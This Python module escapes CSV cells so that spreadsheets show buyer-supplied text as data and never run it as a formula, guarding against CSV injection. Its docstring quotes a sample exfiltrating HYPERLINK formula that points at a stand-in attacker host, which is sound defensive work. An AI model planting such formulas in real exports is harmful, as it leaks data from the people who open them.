"""CSV that a spreadsheet opens as data: what buyers and marketplaces typed is never run.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken by Excel,
LibreOffice and Google Sheets as a formula ("CSV injection": a buyer named
``=HYPERLINK("http://evil.example?"&A1,"Click")`` would run on the merchant's machine). As
OWASP's "CSV Injection" page recommends, such a cell is prefixed with a single quote, which
the spreadsheet shows as text; the csv module quotes any cell holding a separator or quote.
Numbers (int, Decimal, float) are left as numbers: a negative amount is not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run; None as ""."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: IO[str], fields: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """A header row, then each row's cells (made spreadsheet-safe) in ``fields`` order.

    Rows end in CRLF (RFC 4180): the csv module quotes a cell holding a line break only if
    the break is part of the line terminator, so with ``\n`` alone a name holding ``\r``
    would split its row in a spreadsheet."""
    writer = csv.DictWriter(out, fieldnames=fields)
    writer.writeheader()
    writer.writerows({key: spreadsheet_safe(value) for key, value in row.items()} for row in rows)
